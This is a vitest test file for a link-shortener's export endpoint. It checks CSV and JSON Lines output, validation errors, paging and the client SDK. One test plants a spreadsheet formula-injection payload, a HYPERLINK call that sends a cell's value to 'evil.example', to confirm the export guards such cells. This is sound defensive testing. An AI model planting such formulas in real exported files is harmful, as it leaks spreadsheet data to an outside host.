import { createClient, ShortlinksError } from '@shortlinks/client';
import { sql } from 'kysely';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { createAccount, inDays, startTestServer, type TestAccount, type TestServer } from './harness.ts';

const COLUMNS = [
  'id',
  'slug',
  'short_url',
  'destination_url',
  'title',
  'tags',
  'external_id',
  'comments',
  'expires_at',
  'expiration_url',
  'click_count',
  'created_at',
  'password_hash',
  'max_clicks',
  'rules',
  'preview',
];

let server: TestServer;
let alice: TestAccount;
let bob: TestAccount;

beforeAll(async () => {
  server = await startTestServer();
  alice = await createAccount(server, { plan: 'unlimited' });
  bob = await createAccount(server, { plan: 'unlimited' });
});
afterAll(() => server.close());

/** RFC 4180 records, read independently of the writer: quoted fields, doubled quotes, CRLF. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const char = text[i];
    if (quoted) {
      if (char === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (char === '"') quoted = false;
      else field += char;
    } else if (char === '"') quoted = true;
    else if (char === ',') {
      record.push(field);
      field = '';
    } else if (char === '\r' && text[i + 1] === '\n') {
      record.push(field);
      records.push(record);
      record = [];
      field = '';
      i++;
    } else field += char;
  }
  expect(field).toBe('');
  expect(record).toEqual([]);
  return records;
}

const splitTags = (cell: string) => (cell === '' ? [] : cell.split(/(?<!\\)\|/).map((name) => name.replace(/\\(.)/g, '$1')));

async function exportOf(account: TestAccount, query = '') {
  const response = await fetch(`${server.api}/links/export${query}`, { headers: { authorization: `Bearer ${account.key}` } });
  return { status: response.status, headers: response.headers, text: await response.text() };
}

describe('GET /links/export', () => {
  let full: Record<string, unknown>;

  beforeAll(async () => {
    const created = await alice.call('POST', '/links', {
      title: 'Say "hi", then, leave',
      destination_url: 'https://example.com/full?x=1',
      utm: { source: 'news', medium: 'mail' },
      slug: 'full-row',
      tag_names: ['Zeta', 'a|pipe', 'back\\slash'],
      external_id: 'crm-1',
      comments: 'line one\nline two',
      expires_at: inDays(30),
      expiration_url: 'https://example.com/gone',
    });
    expect(created.status).toBe(201);
    full = created.body;
    expect(
      (await alice.call('POST', '/links', { title: 'Bare', destination_url: 'https://example.com/bare', slug: 'bare-row' })).status,
    ).toBe(201);
    expect((await bob.call('POST', '/links', { title: 'Bob', destination_url: 'https://example.com/bob' })).status).toBe(201);
    const deleted = await alice.call('POST', '/links', { title: 'Gone', destination_url: 'https://example.com/deleted' });
    expect((await alice.call('DELETE', `/links/${deleted.body.id}`)).status).toBe(204);
  });

  test('CSV is the default: text/csv, a header row, every live link of the account only, each field as the API holds it', async () => {
    const response = await exportOf(alice);
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(response.headers.get('content-disposition')).toBe('attachment; filename="links.csv"');
    expect(response.text.charCodeAt(0)).not.toBe(0xfeff);
    const [header, ...rows] = parseCsv(response.text);
    expect(header).toEqual(COLUMNS);
    expect(rows.map((row) => row[1])).toEqual(['full-row', 'bare-row']);
    const row = Object.fromEntries(COLUMNS.map((column, i) => [column, rows[0]?.[i]]));
    expect(row).toEqual({
      id: full.id,
      slug: 'full-row',
      short_url: 'https://sho.rt/full-row',
      destination_url: full.destination_url,
      title: 'Say "hi", then, leave',
      tags: 'a\\|pipe|back\\\\slash|Zeta',
      external_id: 'crm-1',
      comments: 'line one\nline two',
      expires_at: new Date(full.expires_at as number).toISOString(),
      expiration_url: 'https://example.com/gone',
      click_count: '0',
      created_at: new Date(full.created_at as number).toISOString(),
      password_hash: '',
      max_clicks: '',
      rules: '',
      preview: '',
    });
    expect(full.destination_url).toContain('utm_source=news');
    expect(splitTags(row.tags as string)).toEqual(['a|pipe', 'back\\slash', 'Zeta']);
    // Absent values are empty cells.
    expect(rows[1]?.slice(5, 10)).toEqual(['', '', '', '', '']);
  });

  test('format=jsonl: application/jsonl, one object a line with the columns as keys, null for absent values', async () => {
    const response = await exportOf(alice, '?format=jsonl');
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('application/jsonl; charset=utf-8');
    const lines = response.text.split('\n');
    expect(lines.pop()).toBe('');
    const links = lines.map((line) => JSON.parse(line));
    expect(links.map((link) => Object.keys(link))).toEqual([COLUMNS, COLUMNS]);
    expect(links[0]).toMatchObject({
      id: full.id,
      tags: ['a|pipe', 'back\\slash', 'Zeta'],
      click_count: 0,
      created_at: new Date(full.created_at as number).toISOString(),
      expires_at: new Date(full.expires_at as number).toISOString(),
    });
    expect(links[1]).toMatchObject({
      slug: 'bare-row',
      tags: [],
      external_id: null,
      comments: null,
      expires_at: null,
      expiration_url: null,
    });
  });

  test('an account without links exports the header alone (CSV) or nothing (JSON Lines)', async () => {
    const empty = await createAccount(server);
    expect((await exportOf(empty)).text).toBe(`${COLUMNS.join(',')}\r\n`);
    const jsonl = await exportOf(empty, '?format=jsonl');
    expect(jsonl.status).toBe(200);
    expect(jsonl.text).toBe('');
  });

  test('CSV guards spreadsheet formulas by default (OWASP), csv_formulas=raw writes them as they are, JSON Lines never guards', async () => {
    const carol = await createAccount(server);
    const formulas = {
      title: '=HYPERLINK("http://evil.example/?"&A1,"click")',
      destination_url: 'https://example.com/formula',
      tag_names: ['=1+1'],
      comments: '=cmd',
    };
    expect((await carol.call('POST', '/links', formulas)).status).toBe(201);
    expect(
      (await carol.call('POST', '/links', { title: "'=1+1", destination_url: 'https://example.com/quoted', comments: '@x' })).status,
    ).toBe(201);
    const cells = (text: string) =>
      parseCsv(text)
        .slice(1)
        .map((row) => [row[4], row[5], row[7]]);

    const guarded = await exportOf(carol);
    expect(guarded.status).toBe(200);
    expect(cells(guarded.text)).toEqual([
      [`'${formulas.title}`, "'=1+1", "'=cmd"],
      ["''=1+1", '', "'@x"],
    ]);
    // No cell of the file starts with a character a spreadsheet runs.
    for (const row of parseCsv(guarded.text)) for (const cell of row) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);

    const raw = await exportOf(carol, '?csv_formulas=raw');
    expect(raw.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(cells(raw.text)).toEqual([
      [formulas.title, '=1+1', '=cmd'],
      ["'=1+1", '', '@x'],
    ]);
    expect(await exportOf(carol, '?format=csv&csv_formulas=guarded')).toMatchObject({ text: guarded.text });

    const jsonl = await exportOf(carol, '?format=jsonl');
    expect(
      jsonl.text
        .trim()
        .split('\n')
        .map((line) => JSON.parse(line).title),
    ).toEqual([formulas.title, "'=1+1"]);
    expect((await exportOf(carol, '?format=jsonl&csv_formulas=raw')).text).toBe(jsonl.text);
  });

  test('a bad format is 422 VALIDATION_ERROR on field format; an unknown parameter too; without a key 401', async () => {
    const bad = await exportOf(alice, '?csv_formulas=off');
    expect(bad.status).toBe(422);
    expect(JSON.parse(bad.text)).toMatchObject({ code: 'VALIDATION_ERROR', field: 'csv_formulas' });
    for (const query of ['?format=xml', '?format=', '?format=csv&format=jsonl', '?colour=red']) {
      const response = await exportOf(alice, query);
      expect(response.status, query).toBe(422);
      expect(response.headers.get('content-type')).toMatch(/^application\/json/);
      const body = JSON.parse(response.text);
      expect(body.code).toBe('VALIDATION_ERROR');
      expect(body.field).toBe(query === '?colour=red' ? 'colour' : 'format');
    }
    const anonymous = await fetch(`${server.api}/links/export`);
    expect(anonymous.status).toBe(401);
    expect(await anonymous.json()).toMatchObject({ code: 'UNAUTHORIZED' });
  });

  test('thousands of links stream in pages, oldest first, each once, with the same microsecond-close created_at', async () => {
    const many = await createAccount(server, { plan: 'unlimited' });
    // Links made in one statement share their created_at to the microsecond: the page boundary must not repeat or skip them.
    await sql`
      insert into link (id, account_id, slug, destination_url, title, created_at)
      select 'lnk_many' || lpad(n::text, 6, '0'), ${many.account.id}, 'many-' || n, 'https://example.com/' || n, 'Link ' || n,
             timestamptz '2026-01-01 00:00:00.000123+00' + ((n / 700) * interval '1 microsecond')
      from generate_series(1, 3500) as n`.execute(server.orm.em.fork().getKysely());
    const response = await fetch(`${server.api}/links/export?format=jsonl`, { headers: { authorization: `Bearer ${many.key}` } });
    expect(response.headers.get('transfer-encoding')).toBe('chunked');
    const ids = (await response.text())
      .trim()
      .split('\n')
      .map((line) => JSON.parse(line).id as string);
    expect(ids.length).toBe(3500);
    expect(new Set(ids).size).toBe(3500);
    expect(ids[0]).toBe('lnk_many000001');
    expect(ids.at(-1)).toBe('lnk_many003500');
  });
});

describe('export over tRPC and the client', () => {
  test('client.links.export streams the same file as REST, in both formats', async () => {
    const client = createClient({ baseUrl: server.origin, apiKey: alice.key });
    for (const format of ['csv', 'jsonl'] as const) {
      let text = '';
      for await (const chunk of await client.links.export({ format })) text += chunk;
      expect(text).toBe((await exportOf(alice, `?format=${format}`)).text);
    }
    let byDefault = '';
    for await (const chunk of await client.links.export()) byDefault += chunk;
    expect(byDefault.startsWith('id,slug,')).toBe(true);
  });

  test('a bad format is a ShortlinksError VALIDATION_ERROR on field format', async () => {
    const client = createClient({ baseUrl: server.origin, apiKey: alice.key });
    const failure = await (async () => {
      for await (const _ of await client.links.export({ format: 'xml' as 'csv' })) {
      }
    })().catch((error: unknown) => error);
    expect(failure).toBeInstanceOf(ShortlinksError);
    expect(failure).toMatchObject({ code: 'VALIDATION_ERROR', field: 'format', status: 422 });
  });
});
